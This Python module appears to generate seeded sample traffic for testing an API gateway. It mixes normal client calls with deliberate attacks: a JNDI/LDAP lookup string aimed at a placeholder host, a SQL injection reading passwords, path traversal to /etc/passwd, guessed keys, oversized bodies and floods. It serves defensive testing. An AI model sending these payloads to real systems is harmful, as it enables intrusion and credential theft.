"""Sample traffic: a seeded mix of good calls and of the mistakes that callers make."""

from __future__ import annotations

import base64
import http.client
import json
import random
import threading
import time
from collections import Counter, deque
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any, Literal, Self
from urllib.parse import quote, urlencode, urlsplit

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

Credential = Literal["key", "token", "none", "guessed", "expired", "other audience"]

WORKERS = 24
WAITING = 96
"""The most calls that were begun and have not ended: callers of a slow gateway wait."""
ANSWER_SECONDS = 10.0
SKUS = ("mug-001", "mug-002", "tea-001", "tea-002", "pot-001")
APP = "loyalty-app"
"""An application that is not in the document: it comes from the portal."""
CUSTOMERS = ("Ada", "Björn", "Chidi", "Dolores O'Neill", "Émile", "Фатима", "Grace", "許")
BLOCKED = "127.0.0.66"
STRANGER = "127.0.0.99"
"""From where somebody tries doors."""
DEEP = "[" * 60 + "]" * 60
LARGE = json.dumps({"customer": "A" * 70_000, "lines": []})
LOOKUP = "${jndi:ldap://203.0.113.9/a}"
SQL = "x' UNION SELECT password FROM users--"


@dataclass(frozen=True)
class Call:
    """A call that somebody makes. `{order}` in the path is the number of an order that was made before."""

    who: str
    method: str
    path: str
    credential: Credential = "key"
    body: str | None = None
    headers: tuple[tuple[str, str], ...] = ()
    times: int = 1
    """How often it is sent at once."""
    source: str | None = None
    """The address it comes from, when it is not the usual one."""
    pick: int = 0
    """Which of the orders, counted around."""


def _order(chance: random.Random, customer: str | None = None) -> str:
    lines = [
        {"sku": sku, "quantity": chance.randint(1, 5)} for sku in chance.sample(SKUS, chance.randint(1, 3))
    ]
    return json.dumps({"customer": customer or chance.choice(CUSTOMERS), "lines": lines})


def _order_v1(chance: random.Random) -> str:
    return json.dumps({"customer": chance.choice(CUSTOMERS), "sku": chance.choice(SKUS), "quantity": 1})


def _one(chance: random.Random, who: str, method: str, version: str, credential: Credential = "key") -> Call:
    return Call(
        who, method, f"/sales/{version}/orders/{{order}}", credential, pick=chance.randrange(1_000_000)
    )


def _guess(chance: random.Random) -> Call:
    return Call(
        "nobody",
        "GET",
        "/inventory/v1/levels",
        "guessed",
        times=3,
        source=STRANGER,
        pick=chance.randrange(1_000_000),
    )


def _preflight(origin: str) -> Call:
    """What a browser asks before a page of this origin may send a token."""
    fields = (
        ("Origin", origin),
        ("Access-Control-Request-Method", "GET"),
        ("Access-Control-Request-Headers", "authorization"),
    )
    return Call("nobody", "OPTIONS", "/sales/v2/orders", "none", headers=fields)


def _ask(chance: random.Random, who: str, model: str = "fast") -> Call:
    """A question to a model, half of them for a stream."""
    question = (
        f"Which of {chance.choice(SKUS)} and {chance.choice(SKUS)} is right for {chance.choice(CUSTOMERS)}?"
    )
    asked = {"model": model, "max_tokens": 60, "messages": [{"role": "user", "content": question}]}
    body = json.dumps(asked | {"stream": chance.random() < 0.5})
    return Call(who, "POST", "/assistant/v1/chat/completions", body=body)


HABITS: tuple[tuple[int, Callable[[random.Random], Call]], ...] = (
    # The web shop does what it should, most of the time.
    (20, lambda chance: Call("storefront", "GET", f"/shop/v1/products/{chance.choice(SKUS)}")),
    (12, lambda chance: _one(chance, "storefront", "GET", "v2")),
    (6, lambda chance: Call("storefront", "GET", f"/sales/v2/orders?sku={chance.choice(SKUS)}&limit=5")),
    (8, lambda chance: Call("storefront", "POST", "/sales/v2/orders", body=_order(chance))),
    (8, lambda _: Call("storefront", "GET", "/inventory/v1/levels")),
    (5, lambda chance: Call("storefront", "GET", f"/inventory/v1/forecast/{chance.choice(SKUS)}")),
    # The warehouse has tokens; it ships and cancels.
    (10, lambda _: Call("warehouse", "GET", "/sales/v2/orders?limit=10", "token")),
    (5, lambda chance: _one(chance, "warehouse", "GET", "v2", "token")),
    (2, lambda chance: _one(chance, "warehouse", "DELETE", "v2", "token")),
    # The terminal in the shop still speaks version 1.
    (4, lambda _: Call("kiosk", "GET", "/sales/v1/orders")),
    (3, lambda chance: Call("kiosk", "POST", "/sales/v1/orders", body=_order_v1(chance))),
    (2, lambda chance: _one(chance, "kiosk", "GET", "v1")),
    # The assistant of the web shop asks a model, and now and then the one that is tried out.
    (6, lambda chance: _ask(chance, "storefront")),
    (1, lambda chance: _ask(chance, "kiosk", "draft")),
    # The monthly figures want everything, on a trial plan.
    (3, lambda _: Call("reports", "GET", "/sales/v2/orders?limit=100")),
    (2, lambda _: Call("reports", "GET", "/inventory/v1/forecast/mug-001", headers=(("X-Release", "next"),))),
    # The stall on the market sells, and sometimes a customer thinks better of it.
    (2, lambda chance: Call("market", "POST", "/sales/v2/orders", body=_order(chance))),
    # Pages of the web shop, crawlers, and receipts with an address of yesterday.
    (2, lambda _: _preflight("https://shop.example.com")),
    (1, lambda _: Call("nobody", "GET", "/robots.txt", "none")),
    (1, lambda chance: Call("nobody", "GET", f"/orders/{chance.randint(1, 99)}", "none")),
)

MISTAKES: tuple[tuple[int, Callable[[random.Random], Call]], ...] = (
    (12, lambda _: Call("nobody", "GET", "/sales/v2/orders", "none", source=STRANGER)),
    (9, _guess),
    (9, lambda _: Call("storefront", "GET", "/sales/v3/orders")),
    (3, lambda _: Call("nobody", "GET", "/sales/v2/orders/%2e%2e/%2e%2e/etc/passwd", "none")),
    (3, lambda _: Call("kiosk", "PATCH", "/sales/v2/orders", body="{}")),
    (6, lambda chance: _one(chance, "reports", "DELETE", "v2")),
    (6, lambda _: Call("kiosk", "GET", "/inventory/v1/levels")),
    (6, lambda _: Call("warehouse", "GET", "/sales/v2/orders", "expired")),
    (3, lambda _: Call("warehouse", "GET", "/sales/v2/orders", "other audience")),
    (6, lambda _: Call("kiosk", "POST", "/sales/v1/orders", body=DEEP)),
    (6, lambda _: Call("storefront", "POST", "/sales/v2/orders", body='{"customer": "", "lines": []}')),
    (
        3,
        lambda chance: Call(
            "market", "POST", "/sales/v2/orders", body=_order(chance)[:-1] + ', "paid": true}'
        ),
    ),
    (3, lambda chance: _one(chance, "market", "DELETE", "v2")),
    (2, lambda _: Call("storefront", "POST", "/sales/v2/orders", body=LARGE)),
    (2, lambda _: Call("storefront", "GET", f"/sales/v2/orders?sku={'mug-001,' * 200}")),
    (2, lambda _: _preflight("https://shop.example.net")),
    (3, lambda chance: Call("storefront", "POST", "/sales/v2/orders", body=_order(chance, LOOKUP))),
    (9, lambda _: Call("storefront", "GET", f"/sales/v2/orders?sku={quote(SQL)}")),
    (3, lambda _: Call("storefront", "GET", "/sales/v2/orders", source=BLOCKED)),
    (3, lambda _: Call("reports", "GET", "/inventory/v1/forecast/lamp-001")),
    (6, lambda chance: Call("reports", "GET", f"/inventory/v1/forecast/{chance.choice(SKUS)}", times=6)),
    (1, lambda _: Call("reports", "GET", "/sales/v2/orders?limit=100", times=60)),
    (1, lambda _: Call("kiosk", "GET", "/sales/v1/orders", times=40)),
    (3, lambda chance: _ask(chance, "reports", "draft")),
    (2, lambda chance: _ask(chance, "storefront", "best")),
)


def calls(seed: int) -> Iterator[Call]:
    """What callers do, the same for a seed: each thing once, then a mix without end."""
    chance = random.Random(seed)  # noqa: S311 - sample traffic, no secret
    first = [make for _, make in HABITS + MISTAKES]
    chance.shuffle(first)
    for make in first:
        yield make(chance)
    habits, mistakes = (
        [make for weight, make in kinds for _ in range(weight)] for kinds in (HABITS, MISTAKES)
    )
    while True:
        yield chance.choice(mistakes if chance.random() < 0.15 else habits)(chance)


THE_APP: tuple[Callable[[random.Random], Call], ...] = (
    *[lambda chance: Call(APP, "GET", f"/sales/v2/orders?sku={chance.choice(SKUS)}&limit=5")] * 5,
    *[lambda chance: Call(APP, "GET", f"/shop/v1/products/{chance.choice(SKUS)}")] * 4,
    lambda chance: Call(APP, "GET", f"/inventory/v1/forecast/{chance.choice(SKUS)}"),
    *[lambda chance: _ask(chance, APP)] * 2,
)


def calls_of_the_app(seed: int) -> Iterator[Call]:
    """What the app of the sample developer does: nothing wrong, and more than its plan gives."""
    chance = random.Random(seed)  # noqa: S311 - sample traffic, no secret
    while True:
        yield chance.choice(THE_APP)(chance)


class Tokens:
    """The tokens of one client.

    Args:
        url: The issuer.
        client: The client id.
        secret: Its secret.
    """

    def __init__(self, url: str, client: str, secret: str) -> None:
        self._address = urlsplit(url).netloc
        self._basic = base64.b64encode(f"{client}:{secret}".encode()).decode()
        self._lock = threading.Lock()
        self._current, self._until = "", 0.0
        self._expired, _ = self._ask(lifetime="1")
        self._other, _ = self._ask(audience="inventory")

    def get(self, which: Credential) -> str:
        """A token; a new one in time before the old one ends."""
        with self._lock:
            if time.monotonic() > self._until:
                self._current, lifetime = self._ask()
                # One for another audience is refused for that only while it is good otherwise.
                self._other, _ = self._ask(audience="inventory")
                self._until = time.monotonic() + lifetime / 2
            return {"expired": self._expired, "other audience": self._other}.get(which, self._current)

    def _ask(self, **wanted: str) -> tuple[str, int]:
        connection = http.client.HTTPConnection(self._address, timeout=ANSWER_SECONDS)
        try:
            form = urlencode({"grant_type": "client_credentials", **wanted})
            connection.request("POST", "/token", form, {"Authorization": f"Basic {self._basic}"})
            answer = json.load(connection.getresponse())
            return answer["access_token"], answer["expires_in"]
        finally:
            connection.close()


class Traffic:
    """Sends calls until it is stopped.

    Args:
        address: Host and port of the gateway.
        keys: The API key of each application that has one.
        tokens: The tokens of those that have none.
        seed: Which calls.
        rate: Calls a second.
        mix: Gives the calls of a seed.
    """

    def __init__(
        self,
        address: str,
        keys: dict[str, str],
        tokens: Tokens,
        seed: int,
        rate: float,
        *,
        mix: Callable[[int], Iterator[Call]] = calls,
    ) -> None:
        self.address, self.keys, self.tokens = address, keys, tokens
        self.pages: Counter[bool] = Counter()
        """Product pages by whether they were complete."""
        self.broken: deque[str] = deque(maxlen=5)
        """The last calls that got no answer at all, and why."""
        self._calls, self._pause = mix(seed), 1 / rate
        self._orders: deque[int] = deque(maxlen=500)
        self._places = threading.Semaphore(WAITING)
        self._own = threading.local()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="traffic")

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._stop.set()
        self._thread.join()

    def _run(self) -> None:
        with ThreadPoolExecutor(WORKERS) as pool:
            due = time.monotonic()
            for call in self._calls:
                for _ in range(call.times):
                    self._places.acquire()
                    pool.submit(self._send, call)
                # Time that was lost in waiting for places is not caught up.
                due = max(due + self._pause, time.monotonic() - 1)
                if self._stop.wait(max(0.0, due - time.monotonic())):
                    return

    def _send(self, call: Call) -> None:
        try:
            self._judge(call, *self._exchange(call))
        except (OSError, http.client.HTTPException, ValueError) as error:
            self.broken.append(f"{call.method} {call.path}: {error!r}")
        finally:
            self._places.release()

    def _judge(self, call: Call, status: int, body: bytes) -> None:
        if status == 201:
            self._orders.append(json.loads(body)["id"])
        elif status == 200 and call.path.startswith("/shop/"):
            self.pages[json.loads(body)["complete"]] += 1

    def _exchange(self, call: Call) -> tuple[int, bytes]:
        number = self._orders[call.pick % len(self._orders)] if self._orders else 1
        path = call.path.replace("{order}", str(number))
        headers = dict(call.headers) | self._credential(call)
        if call.body is not None:
            headers["Content-Type"] = "application/json"
        connection, used = self._connection(call.source)
        while True:
            try:
                connection.request(call.method, path, call.body, headers)
                answer = connection.getresponse()
                return answer.status, answer.read()
            except (OSError, http.client.HTTPException):
                connection.close()
                # A connection that was used before may have been closed meanwhile (RFC 9112 §9.5).
                if not used:
                    raise
                used = False

    def _credential(self, call: Call) -> dict[str, str]:
        match call.credential:
            case "none":
                return {}
            case "guessed":
                return {"X-Api-Key": f"lg_letmein{call.pick}"}
            case "key":
                return {"X-Api-Key": self.keys[call.who]}
            case which:
                return {"Authorization": f"Bearer {self.tokens.get(which)}"}

    def _connection(self, source: str | None) -> tuple[http.client.HTTPConnection, bool]:
        """A connection of this thread, and whether it was used before."""
        kept: dict[str | None, http.client.HTTPConnection] = self._own.__dict__.setdefault("kept", {})
        if source in kept:
            return kept[source], True
        where: Any = (source, 0) if source else None
        kept[source] = http.client.HTTPConnection(self.address, timeout=ANSWER_SECONDS, source_address=where)
        return kept[source], False
